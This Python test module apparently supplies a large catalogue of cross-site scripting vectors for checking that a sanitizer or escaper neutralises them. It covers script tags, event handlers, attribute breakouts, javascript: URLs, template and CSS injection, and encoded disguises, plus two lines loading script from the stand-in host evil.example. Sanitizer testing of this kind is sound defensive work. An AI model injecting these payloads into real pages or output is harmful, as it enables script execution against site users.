"""Texts that would run in a browser if we ever handed one out as anything but text. Written for these tests, kind by kind."""

# Each calls `alert` if it runs. `{n}` is its number, so that what ran can be named.
SCRIPTS = (
    "alert({n})",
    "alert`{n}`",
    "top.alert({n})",
    "window['al'+'ert']({n})",
    "(0,alert)({n})",
    "[{n}].map(alert)",
    "eval('al'+'ert({n})')",
)
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onscroll",
    "onbegin",
    "oncut",
    "onbeforeinput",
)
# Out of a text: elements that run by themselves.
ELEMENTS = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script/x>{js}</script>",
    "<script\n>{js}</script\n>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script src=data:,{js}></script>",
    "<script src='//evil.example/x.js'></script>",
    "<script type=module>{js}</script>",
    "<img src=x onerror={js}>",
    "<img/src=x/onerror={js}>",
    "<img src=x onerror='{js}'",
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributename=x>",
    "<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}/>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{js}</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><title><img src=x onerror={js}></title></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<math href='javascript:{js}'>x</math>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src='javascript:parent.{js}'></iframe>",
    "<iframe onload={js}></iframe>",
    "<embed src='javascript:{js}'>",
    "<object data='javascript:{js}'></object>",
    "<object data='data:text/html,<script>parent.{js}</script>'></object>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<button autofocus onfocus={js}>x</button>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<marquee onstart={js}>x</marquee>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=data:, onload={js}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href='javascript:{js}//'>",
    "<form action='javascript:{js}'><button autofocus>x</button></form>",
    "<isindex type=image src=x onerror={js}>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<xmp><p title='</xmp><img src=x onerror={js}>'>",
    "<plaintext><img src=x onerror={js}>",
    "<p style='animation:x 1s' onanimationstart={js}>",
    "<p popover onbeforetoggle={js}>",
    "<x contenteditable autofocus onfocus={js} tabindex=1>",
)  # fmt: skip
# Out of what may stand around it.
BREAKOUTS = (
    '">{html}', "'>{html}", "`>{html}", '"/>{html}', "</title>{html}", "</textarea>{html}", "</style>{html}", "</script>{html}", "</noscript>{html}", "</select>{html}",
    "</option></select>{html}", "</bdi>{html}", "</a>{html}", "</svg>{html}", "</text></svg>{html}", "</time>{html}", "--><!-- -->{html}", "--!>{html}", "]]>{html}", "</template>{html}", "</iframe>{html}", "</pre>{html}",
)  # fmt: skip
# Into an attribute, without an angle bracket.
ATTRIBUTES = (
    '" {event}={js} x="', "' {event}={js} x='", '" autofocus {event}={js} tabindex=1 x="', "x {event}={js}", '"/{event}={js}/x="', "`{event}={js}`", '"\n{event}={js}\nx="', '"\t{event}={js}\tx="',
)  # fmt: skip
# As an address.
ADDRESSES = (
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "\tjavascript:{js}", "java\tscript:{js}", "java\nscript:{js}", "java\rscript:{js}", "\x01javascript:{js}", "javascript://x%0a{js}", "javascript:{js}//http://x",
    "javascript&colon;{js}", "java&#115;cript:{js}", "java&#x73;cript:{js}", "javascript&#58;{js}", "javascript&#0058{js}", "vbscript:{js}", "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={js} xmlns='http://www.w3.org/2000/svg'/>", "blob:{js}", "view-source:javascript:{js}", "feed:javascript:{js}", "http://x/\"{event}={js}", "http://x/' {event}={js} '",
    "http://x/><script>{js}</script>", "//evil.example/{n}", "\\\\evil.example\\{n}", "https:javascript:{js}", "jar:javascript:{js}!/", "http://javascript:{js}@x/",
)  # fmt: skip
# For templates and for scripts that read a page.
TEMPLATES = (
    "{{{{ {js} }}}}", "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}", "#{{{js}}}", "<%= {js} %>", "{{% if {js} %}}", "[[{js}]]", "{{{{''.__class__.__mro__}}}}", "{{{{7*7}}}}<script>{js}</script>", "ng-init={js}", "v-on:load={js}", "x-data x-init={js}", "hx-on:load={js}", "@load={js}",
)  # fmt: skip
# For style sheets and data.
STYLES_AND_DATA = (
    "</style><script>{js}</script>", "expression({js})", "background:url(javascript:{js})", "@import 'javascript:{js}';", "x;animation-name:y\"{event}={js} \"", "behavior:url(#x){js}", "\\3c script\\3e {js}\\3c/script\\3e",
    '"}};{js};//', "'}};{js};//", '\\";{js};//', "\\u003cscript\\u003e{js}\\u003c/script\\u003e", "\\x3cscript\\x3e{js}\\x3c/script\\x3e", '"}}]</script><script>{js}</script>', "';{js};'", '";{js};"', "\u2028{js}\u2029", "*/{js}/*", "//\n{js}", "-{js}-", "'-{js}-'", '"-{js}-"', "`-{js}-`", "=HYPERLINK(\"javascript:{js}\")", "+{js}", "@SUM({js})",
)  # fmt: skip
# In disguise: other letters for the same ones, bytes that are none, marks that turn the direction.
ENCODINGS = (
    "&lt;script&gt;{js}&lt;/script&gt;", "&#60;script&#62;{js}&#60;/script&#62;", "&#x3c;script&#x3e;{js}&#x3c;/script&#x3e;", "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;", "%3Cscript%3E{js}%3C/script%3E", "%253Cscript%253E{js}%253C/script%253E", "+ADw-script+AD4-{js}+ADw-/script+AD4-", "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "\u202e<script>{js}</script>\u202c", "<scr\u0000ipt>{js}</scr\u0000ipt>", "<script\u00a0>{js}</script>", "<\u200bscript>{js}</script>", "<script>{js}</script\u3000>", "\ufeff<script>{js}</script>", "¼script¾{js}¼/script¾", "<ſcript>{js}</ſcript>", "<ımg src=x onerror={js}>", "\u2039script\u203a{js}\u2039/script\u203a", "<img src=x onerror=&#97;lert({n})>", "<img src=x onerror=\\u0061lert({n})>", "<img src=x onerror=al\\u{{65}}rt({n})>", "%u003cscript%u003e{js}", "&NewLine;&lt;script&gt;{js}", "<a href=java&Tab;script:{js}>x</a>", "<a href=java&NewLine;script:{js}>x</a>",
)  # fmt: skip


def vectors() -> list[str]:
    """Return every vector, each with its number."""
    found: list[str] = []

    def add(pattern: str, **parts: str) -> None:
        n = len(found) + 1
        js = SCRIPTS[n % len(SCRIPTS)].format(n=n)
        html = f"<img src=x onerror={js}>" if n % 2 else f"<script>{js}</script>"
        found.append(pattern.format(**{"n": n, "js": js, "html": html, "event": EVENTS[n % len(EVENTS)]} | parts))

    for pattern in (*ELEMENTS, *BREAKOUTS, *ADDRESSES, *TEMPLATES, *STYLES_AND_DATA, *ENCODINGS):
        add(pattern)
    for event in EVENTS:
        for pattern in ATTRIBUTES[:5]:
            add(pattern, event=event)
    return found
